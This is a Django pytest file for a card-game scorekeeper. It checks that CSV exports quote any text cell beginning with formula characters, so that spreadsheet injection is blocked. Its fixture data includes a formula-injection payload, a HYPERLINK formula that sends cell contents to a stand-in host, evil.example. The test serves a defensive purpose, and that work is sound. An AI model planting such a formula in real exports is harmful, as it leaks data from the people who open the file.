"""CSV exports and formula injection: a text cell (team names, notes, anything a person typed) that
starts with = + - @ tab or carriage return is written with a leading single quote, so a spreadsheet
shows it as text instead of running it (OWASP's CSV injection advice); numbers stay numbers."""

import csv
import io

import pytest
from django.test import Client

from scorekeeper.engine.scoring import PlayedDeal, Trump
from scorekeeper.history.exports import CSV_COLUMNS
from scorekeeper.matches.models import Deal, Match
from tests.conftest import Browser

from .conftest import OWNER_KEY, MakeMatch

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
NOTES = ["-x", "+1", "\tTab", "\rCR", "=1+1", "@SUM(A1:A9)", "plain note", "a = b", ""]


def read(client: Client, path: str) -> list[dict[str, str]]:
    response = client.get(path)
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert rows[0] == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def hostile(make_match: MakeMatch) -> Match:
    match = make_match(
        "coinche",
        [PlayedDeal(taker=0, trump=Trump.HEARTS, contract=80, taker_points=100) for _ in NOTES],
        team_names=(HYPERLINK, "@SUM(1+1)"),
    )
    # Notes written straight to the rows: whatever an older version or an import let in.
    for deal, note in zip(match.deals.order_by("seq"), NOTES, strict=True):
        Deal.objects.filter(pk=deal.pk).update(note=note)
    return match


def check(rows: list[dict[str, str]]) -> None:
    assert len(rows) == len(NOTES)
    first = rows[0]
    assert first["team1"] == "'" + HYPERLINK
    assert first["team2"] == "'@SUM(1+1)"
    assert first["takers"] == "'" + HYPERLINK
    assert [row["note"] for row in rows] == [
        "'-x", "'+1", "'\tTab", "'\rCR", "'=1+1", "'@SUM(A1:A9)", "plain note", "a = b", "",
    ]  # fmt: skip
    # Numbers are written as numbers, with nothing in front.
    assert (first["deal"], first["contract"], first["taker_points"]) == ("1", "80", "100")
    assert (first["score1"], first["score2"]) == ("180", "60")
    assert first["total1"] == "180"
    assert first["date"][:2] == "20"
    for row in rows:
        for column, value in row.items():
            assert not value or value[0] not in "=+-@\t\r", (column, value)


def test_the_match_csv_neutralises_formulas(hostile: Match, browser: Browser) -> None:
    check(read(browser("anyone"), f"/view/{hostile.view_token}/deals.csv"))


def test_the_csv_of_all_my_deals_neutralises_formulas(hostile: Match, browser: Browser) -> None:
    check(read(browser(OWNER_KEY), "/history/deals.csv"))


def test_a_match_token_that_starts_with_a_dash_is_text_too(
    make_match: MakeMatch, browser: Browser
) -> None:
    match = make_match("belote", [PlayedDeal(taker=1, trump=Trump.SPADES, taker_points=90)])
    Match.objects.filter(pk=match.pk).update(view_token="-abcdefgh" + match.view_token[9:])
    match.refresh_from_db()
    (row,) = read(browser(OWNER_KEY), "/history/deals.csv")
    assert row["match"] == "'-abcdefg"
